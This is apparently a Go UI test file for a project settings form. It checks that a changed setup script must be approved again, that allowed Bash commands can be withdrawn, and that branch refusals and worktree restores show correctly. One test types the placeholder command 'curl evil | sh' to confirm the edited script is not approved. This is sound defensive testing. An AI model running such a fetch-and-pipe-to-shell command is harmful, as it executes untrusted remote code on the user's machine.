package project_test

import (
	"testing"
	"time"

	"fermata/pieces"
	"fermata/pieces/engine"
	"fermata/ui/kit"
	"fermata/ui/stage"
)

// scripted is a project whose setup script was allowed.
func scripted() *fakeEngine {
	e := usual()
	e.project.SetupScript = "npm ci"
	e.project.SetupAllowed = pieces.SetupHash("npm ci")
	e.project.AllowedCommands = []string{"Bash(make)", "Bash(npm test)"}
	return e
}

func settingsOf(t *testing.T, e *fakeEngine) *window {
	t.Helper()
	w := openWindow(t, stage.New(t), e, 1280, 800)
	w.sees("card:planned")
	w.click("projectSettings")
	w.sees("project:save")
	return w
}

func (w *window) ticked(name string) bool {
	w.Helper()
	o, _ := stage.Find(w.Window, name)
	c, ok := o.(*kit.Check)
	return ok && c.Visible() && c.Checked
}

// edited waits for the next change of the project.
func (w *window) edited() engine.ProjectEdit {
	w.Helper()
	var edit engine.ProjectEdit
	w.Until("the project is edited", func() bool {
		w.engine.mu.Lock()
		defer w.engine.mu.Unlock()
		if len(w.engine.projectEdits) == 0 {
			return false
		}
		edit, w.engine.projectEdits = w.engine.projectEdits[0], w.engine.projectEdits[1:]
		return true
	})
	return edit
}

func TestAChangedSetupScriptHasToBeAllowedAnew(t *testing.T) {
	w := settingsOf(t, scripted())
	if !w.ticked("project:allow") {
		t.Error("the script that was allowed is not shown as allowed")
	}
	w.Type(w.Window, "project:script", "curl evil | sh")
	if w.ticked("project:allow") {
		t.Error("the other text is allowed")
	}
	if !shows(w, "The script waits: it does not run until you allow this text of it.") {
		t.Error("nothing says that the script waits")
	}
	w.click("project:save")
	if e := w.edited(); *e.AllowSetup || *e.SetupScript != "curl evil | sh" {
		t.Errorf("edited %+v", e)
	}
	w.Until("the form is closed", func() bool { return !stage.Has(w.Window, "project:save") })
}

func TestASetupScriptIsAllowedByItsText(t *testing.T) {
	w := settingsOf(t, usual())
	if stage.Has(w.Window, "project:allow") {
		t.Error("no script can be allowed")
	}
	w.Type(w.Window, "project:script", "make deps")
	w.click("project:allow")
	w.click("project:save")
	if e := w.edited(); !*e.AllowSetup || *e.SetupScript != "make deps" || *e.Branch != "main" {
		t.Errorf("edited %+v", e)
	}
}

func TestAnAllowedCommandIsTakenBack(t *testing.T) {
	w := settingsOf(t, scripted())
	w.click("project:forget:0")
	if !shows(w, "Bash(npm test)") || shows(w, "Bash(make)") {
		t.Error("the wrong command went")
	}
	w.click("project:save")
	if e := w.edited(); len(e.ForgetCommands) != 1 || e.ForgetCommands[0] != "Bash(make)" || !*e.AllowSetup {
		t.Errorf("edited %+v", e)
	}
}

func TestARefusedBranchIsSaidAndTheFormStays(t *testing.T) {
	e := usual()
	e.refuse = &engine.Refusal{Sentence: pieces.Say("Pieces cannot start from nowhere.")}
	w := settingsOf(t, e)
	w.Type(w.Window, "project:branch", "nowhere")
	w.click("project:save")
	w.edited()
	w.Until("the refusal is shown", func() bool { return shows(w, e.refuse.Error()) })
	w.click("project:cancel")
	w.Until("the form is closed", func() bool { return !stage.Has(w.Window, "project:save") })
}

func TestWhatTheWorktreeHeldIsRestored(t *testing.T) {
	e := usual()
	ref := ""
	e.change(func() {
		for i := range e.list {
			if e.list[i].Piece.ID == "done" {
				ref = pieces.SavedRef("done", noon.Add(-31*24*time.Hour), 0)
				e.list[i].Piece.SavedRef, e.list[i].Piece.Worktree = ref, ""
			}
		}
	})
	w := opened(t, e, "done")
	w.click("tab:overview")
	w.sees("restoreSaved")
	if !shows(w, "more than the 30 days") {
		t.Error("nothing says that it is expired")
	}
	w.click("restoreSaved")
	w.logged("restore done " + ref)
	w.Until("it says where it is", func() bool { return shows(w, "/worktrees/restored") })
	w.Keep(w.Window, "item-done-restored")
}
